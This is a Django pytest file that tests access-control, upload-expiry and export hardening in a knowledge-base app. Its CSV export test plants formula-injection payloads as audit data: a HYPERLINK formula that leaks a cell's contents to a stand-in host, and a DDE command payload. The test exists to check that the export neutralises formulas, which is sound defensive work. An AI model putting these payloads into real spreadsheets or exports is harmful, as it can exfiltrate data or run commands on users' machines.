"""Smaller hardening items: deleting a group never opens a document, the CSV export cannot carry a formula,
bootstrap sets no known password outside development, expired private uploads go away, production settings
insist on HTTPS."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from django.contrib.auth.models import Group, User
from django.test import Client
from django.utils import timezone

from athena.principals import Principal
from audit.models import AuditEvent
from audit.services import audit_record
from knowledge.models import Chunk, Document, DocumentStatus
from knowledge.selectors import document_list_visible
from knowledge.services import IngestOptions, files_ingest, uploads_expire
from tests.api import client_for, make_user
from tests.factories import UserFactory
from tests.knowledge.conftest import write_docs

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

DOC = "# Rack power budget\n\nEach rack in hall B is limited to 8 kW; ask facilities before adding a blade chassis.\n"


def _ingest(root: Path, options: IngestOptions) -> None:
    files = [(options.prefix + path.name, str(path)) for path in sorted(root.iterdir())]
    summary = files_ingest(root=str(root), files=files, options=options)
    assert summary.failed == 0, summary.errors


@pytest.mark.slow
def test_deleting_a_group_never_opens_its_documents(tmp_path: Path) -> None:
    _ingest(write_docs(tmp_path / "a", {"power.md": DOC}), IngestOptions(acl_groups=("facilities",)))
    _ingest(write_docs(tmp_path / "b", {"power-b.md": DOC}), IngestOptions(acl_groups=("facilities", "noc")))
    outsider = Principal.from_user(make_user("emp", "employees"))
    assert not document_list_visible(principal=outsider).exists()
    Group.objects.get(name="facilities").delete()
    # the internal document readable only through the deleted group is now readable by nobody, not everybody
    assert not document_list_visible(principal=outsider).exists()
    closed = Document.objects.get(source="power.md")
    assert closed.access_tier == "restricted" and not closed.allowed_groups.exists()
    assert not Chunk.objects.filter(document=closed, acl_open=True).exists()
    kept = Document.objects.get(source="power-b.md")
    assert kept.access_tier == "internal" and list(kept.allowed_groups.values_list("name", flat=True)) == [
        "noc"
    ]
    assert AuditEvent.objects.filter(kind="acl_change", documents__contains=["power.md"]).exists()


@pytest.mark.slow
def test_deleting_all_of_a_documents_groups_in_one_action_never_opens_it(tmp_path: Path) -> None:
    """The admin's "delete selected" deletes the groups in one queryset delete: the other group deleted with
    one is not left to the document."""
    _ingest(write_docs(tmp_path / "a", {"power.md": DOC}), IngestOptions(acl_groups=("facilities", "noc")))
    _ingest(
        write_docs(tmp_path / "b", {"power-b.md": DOC}),
        IngestOptions(acl_groups=("facilities", "noc", "sre")),
    )
    outsider = Principal.from_user(make_user("emp", "employees"))
    Group.objects.filter(name__in=["facilities", "noc"]).delete()
    assert not document_list_visible(principal=outsider).exists()
    closed = Document.objects.get(source="power.md")
    assert closed.access_tier == "restricted" and not closed.allowed_groups.exists()
    assert not Chunk.objects.filter(document=closed, acl_open=True).exists()
    assert Chunk.objects.filter(document=closed, acl_groups=[]).exists()
    kept = Document.objects.get(source="power-b.md")
    assert kept.access_tier == "internal" and list(kept.allowed_groups.values_list("name", flat=True)) == [
        "sre"
    ]
    assert AuditEvent.objects.filter(kind="acl_change", documents__contains=["power.md"]).exists()


def test_the_csv_export_neutralises_formulas() -> None:
    attacker = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    audit_record(kind="login_failed", actor=attacker, verdict="denied", payload={"username": attacker})
    audit_record(kind="login_failed", actor="+1+cmd|' /C calc'!A0", verdict="denied", payload={})
    response = client_for(make_user("auditor", "compliance")).get("/api/v1/audit/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [value for row in rows for value in row.values() if value]
    assert cells and not any(value.startswith(("=", "+", "-", "@")) for value in cells)
    assert any(value == "'" + attacker for value in cells)


def test_bootstrap_sets_no_known_password_outside_development() -> None:
    from knowledge.management.commands.bootstrap import demo_users_ensure

    admin = UserFactory(username="admin", password="a-changed-strong-password")
    assert demo_users_ensure(debug=False) is False
    admin.refresh_from_db()
    assert admin.check_password("a-changed-strong-password")
    assert not User.objects.filter(username__in=["alice", "noc-bob", "carol"]).exists()
    assert demo_users_ensure(debug=True) is True
    assert User.objects.get(username="alice").check_password("alice-demo-pass")


def test_a_demo_users_session_outlives_the_next_make_run() -> None:
    """Each `make run` (after an upgrade, or any restart) set the demo passwords again; a new salt makes a new
    hash, and Django's session check (a hash of the password hash) then signed every demo user out, their open
    chat pages answered with the sign-in page. Only a password that differs from the printed one is set back."""
    from knowledge.management.commands.bootstrap import demo_users_ensure

    demo_users_ensure(debug=True)
    client = Client()
    assert client.login(username="alice", password="alice-demo-pass")
    assert client.get("/api/v1/conversations").status_code == 200
    demo_users_ensure(debug=True)  # the next `make run`
    assert client.get("/api/v1/conversations").status_code == 200
    alice = User.objects.get(username="alice")
    alice.set_password("changed-by-someone")
    alice.save()
    demo_users_ensure(debug=True)
    assert User.objects.get(username="alice").check_password("alice-demo-pass")


@pytest.mark.slow
def test_expired_private_uploads_are_tombstoned_and_deleted(settings) -> None:  # type: ignore[no-untyped-def]
    owner = make_user("eng", "employees")
    folder = Path(settings.MEDIA_ROOT) / "uploads" / str(owner.pk)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "notes.md"
    path.write_text(DOC)
    expired = timezone.now() - timedelta(minutes=1)
    options = IngestOptions(owner_id=owner.pk, access_tier="confidential", expires_at=expired)
    summary = files_ingest(
        root=str(settings.MEDIA_ROOT), files=[(f"uploads/{owner.pk}/notes.md", str(path))], options=options
    )
    assert summary.failed == 0
    document = Document.objects.get(source=f"uploads/{owner.pk}/notes.md")
    assert Chunk.objects.filter(document=document, active=True).exists()
    assert uploads_expire() == 1
    document.refresh_from_db()
    assert document.status == DocumentStatus.TOMBSTONED
    assert not Chunk.objects.filter(document=document).exists()
    assert not path.exists()
    assert AuditEvent.objects.filter(kind="upload_expired", documents__contains=[document.source]).exists()
    assert uploads_expire() == 0  # idempotent


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)  # retrieval reads through its own pool connections
def test_an_expired_upload_is_not_citable_even_before_the_expiry_task(settings) -> None:  # type: ignore[no-untyped-def]
    from retrieval.search import search

    owner = make_user("eng", "employees")
    folder = Path(settings.MEDIA_ROOT) / "uploads" / str(owner.pk)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "power.md"
    path.write_text(DOC)
    source = f"uploads/{owner.pk}/power.md"
    live = IngestOptions(
        owner_id=owner.pk, access_tier="confidential", expires_at=timezone.now() + timedelta(hours=1)
    )
    files_ingest(root=str(settings.MEDIA_ROOT), files=[(source, str(path))], options=live)
    principal = Principal.from_user(owner)
    question = "What is the power limit of a rack in hall B?"
    assert source in search(question, principal).documents()
    chunk = Chunk.objects.filter(document__source=source).first()
    assert chunk is not None
    client = client_for(owner)
    assert client.get(f"/api/v1/passages/{chunk.pk}").status_code == 200
    Document.objects.filter(source=source).update(expires_at=timezone.now() - timedelta(seconds=1))
    assert source not in search(question, principal).documents()
    assert client.get(f"/api/v1/passages/{chunk.pk}").status_code == 404


@pytest.mark.slow
def test_an_expired_document_is_renewed_in_the_admin_and_readers_see_it_again(  # type: ignore[no-untyped-def]
    tmp_path: Path, django_capture_on_commit_callbacks
) -> None:
    from athena.celery import app
    from knowledge.selectors import documents_readable

    root = write_docs(tmp_path / "kb", {"power.md": DOC})
    _ingest(root, IngestOptions(acl_groups=("facilities",)))
    document = Document.objects.get(source="power.md")
    Document.objects.filter(pk=document.pk).update(expires_at=timezone.now() - timedelta(minutes=1))
    assert uploads_expire() == 1
    reader = Principal.from_user(make_user("reader", "employees", "facilities"))
    assert not document_list_visible(principal=reader).filter(pk=document.pk).exists()
    assert not documents_readable(principal=reader).filter(pk=document.pk).exists()
    make_user("curator", "employees", "kb-admins", "facilities", superuser=True)
    make_user("outsider", "employees", "kb-admins", superuser=True)
    client = Client()
    client.login(username="outsider", password="pw")  # an admin whose groups may not read it: still hidden
    assert client.get(f"/admin/knowledge/document/{document.pk}/change/").status_code == 302
    client.login(username="curator", password="pw")
    assert "power.md" in client.get("/admin/knowledge/document/").content.decode()
    change = f"/admin/knowledge/document/{document.pk}/change/"
    assert client.get(change).status_code == 200
    form = {
        "source": document.source,
        "title": document.title,
        "access_tier": document.access_tier,
        "doc_type": document.doc_type,
        "analyzer_version": document.analyzer_version,
        "metadata": json.dumps(document.metadata),
        "allowed_groups": [str(pk) for pk in document.allowed_groups.values_list("pk", flat=True)],
        "expires_at_0": "",  # the expiry cleared
        "expires_at_1": "",
    }
    app.conf.task_always_eager = True  # the re-ingest it queues runs here, as a worker would run it
    try:
        with django_capture_on_commit_callbacks(execute=True):
            saved = client.post(change, form)
    finally:
        app.conf.task_always_eager = False
    assert saved.status_code == 302, saved.content.decode()[:2000]
    document.refresh_from_db()
    assert (document.status, document.expires_at) == (DocumentStatus.INDEXED, None)
    assert Chunk.objects.filter(document=document, active=True, expires_at__isnull=True).exists()
    assert document_list_visible(principal=reader).filter(pk=document.pk).exists()
    assert list(document.allowed_groups.values_list("name", flat=True)) == ["facilities"]


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)  # the admin form's own transaction commits, as in a request
def test_a_renewal_saved_while_the_broker_is_down_says_its_reingest_was_not_queued(  # type: ignore[no-untyped-def]
    tmp_path: Path, broker_down
) -> None:
    """The re-ingest a renewal asks for is queued after the form's transaction committed: with the broker down
    the admin sees the renewal saved and is told that the re-ingest is not queued, instead of a server error
    after the save. The emptied hash stays, so the next folder sync indexes the document again. The
    "Re-ingest" action says the same."""
    root = write_docs(tmp_path / "kb", {"power.md": DOC})
    _ingest(root, IngestOptions(acl_groups=("facilities",)))
    document = Document.objects.get(source="power.md")
    Document.objects.filter(pk=document.pk).update(expires_at=timezone.now() - timedelta(minutes=1))
    assert uploads_expire() == 1
    make_user("curator", "employees", "kb-admins", "facilities", superuser=True)
    client = Client(raise_request_exception=False)
    client.login(username="curator", password="pw")
    change = f"/admin/knowledge/document/{document.pk}/change/"
    form = {
        "source": document.source,
        "title": document.title,
        "access_tier": document.access_tier,
        "doc_type": document.doc_type,
        "analyzer_version": document.analyzer_version,
        "metadata": json.dumps(document.metadata),
        "allowed_groups": [str(pk) for pk in document.allowed_groups.values_list("pk", flat=True)],
        "expires_at_0": "",
        "expires_at_1": "",
    }
    saved = client.post(change, form, follow=True)
    assert saved.status_code == 200, saved.content.decode()[:2000]
    page = saved.content.decode()
    assert "its re-ingestion could not be queued" in page and "message broker is not reachable" in page
    document.refresh_from_db()
    assert (document.status, document.expires_at, document.content_hash) == (
        DocumentStatus.TOMBSTONED,
        None,
        "",
    )
    action = client.post(
        "/admin/knowledge/document/",
        {"action": "reingest", "_selected_action": [str(document.pk)]},
        follow=True,
    )
    assert action.status_code == 200
    assert "document(s) for re-ingestion; the others were not: the message broker" in action.content.decode()


def test_deleting_keeps_the_record_a_user_or_a_link_target_is_part_of(tmp_path: Path) -> None:
    """A user with uploads, questions or votes cannot be deleted (a cascade would drop their uploads' chunks
    past the services that keep the index statistics exact, and their questions with them): they are
    deactivated instead. Deleting a document that others link to leaves those links open, found again when a
    document of that name returns."""
    from django.db.models import ProtectedError

    from agents.models import Answer, Conversation
    from knowledge.models import DocumentLink
    from knowledge.services import document_tombstone

    owner = make_user("uploader", "employees")
    _ingest(write_docs(tmp_path / "private", {"mine.md": DOC}), IngestOptions(owner_id=owner.pk))
    with pytest.raises(ProtectedError):
        owner.delete()
    assert Chunk.objects.filter(document__source="mine.md", active=True).exists()
    asker = make_user("asker", "employees")
    conversation = Conversation.objects.create(user=asker, title="power")
    Answer.objects.create(conversation=conversation, user=asker, question="How much power per rack?")
    with pytest.raises(ProtectedError):
        asker.delete()

    _ingest(
        write_docs(
            tmp_path / "linked", {"guide.md": DOC + "\nSee [the power table](power.md).\n", "power.md": DOC}
        ),
        IngestOptions(),
    )
    link = DocumentLink.objects.get(source__source="guide.md")
    assert link.target is not None and link.target.source == "power.md"
    target = link.target
    document_tombstone(document=target)  # as the admin deletes a document: through the service, then the row
    target.delete()
    link.refresh_from_db()
    assert link.target is None and link.target_ref.endswith("power.md")
    _ingest(write_docs(tmp_path / "back", {"power.md": DOC}), IngestOptions())
    link.refresh_from_db()
    assert link.target is not None and link.target.source == "power.md"


def test_a_document_that_names_its_own_groups_is_read_by_those_groups_only(tmp_path: Path) -> None:
    """A plain text's `Allowed-Groups:` field restricts a document that its folder leaves open; the folder's
    own groups win over it; it cannot open a folder's restricted document that no group reads; a private upload
    that names groups stays its owner's alone (groups would share it)."""
    header = "Title: Break-glass accounts\nAllowed-Groups: secops, noc\n\n"
    body = header + "The break-glass accounts are sealed in the secops safe and checked every quarter.\n"
    outsider = Principal.from_user(make_user("emp", "employees"))
    member = Principal.from_user(make_user("sam", "employees", "secops"))

    _ingest(write_docs(tmp_path / "open", {"glass.txt": body}), IngestOptions())
    document = Document.objects.get(source="glass.txt")
    assert sorted(document.allowed_groups.values_list("name", flat=True)) == ["noc", "secops"]
    assert not document_list_visible(principal=outsider).filter(pk=document.pk).exists()
    assert document_list_visible(principal=member).filter(pk=document.pk).exists()
    assert not Chunk.objects.filter(document=document, acl_open=True).exists()

    _ingest(write_docs(tmp_path / "folder", {"glass-f.txt": body}), IngestOptions(acl_groups=("facilities",)))
    folder = Document.objects.get(source="glass-f.txt")
    assert list(folder.allowed_groups.values_list("name", flat=True)) == ["facilities"]

    # a folder of restricted documents with no groups is readable by nobody: a file's groups cannot open it
    _ingest(write_docs(tmp_path / "closed", {"glass-c.txt": body}), IngestOptions(access_tier="restricted"))
    closed = Document.objects.get(source="glass-c.txt")
    assert closed.access_tier == "restricted" and not closed.allowed_groups.exists()
    assert not document_list_visible(principal=member).filter(pk=closed.pk).exists()

    owner = make_user("uploader", "employees")
    _ingest(write_docs(tmp_path / "private", {"glass-p.txt": body}), IngestOptions(owner_id=owner.pk))
    private = Document.objects.get(source="glass-p.txt")
    assert not private.allowed_groups.exists()
    assert not document_list_visible(principal=member).filter(pk=private.pk).exists()
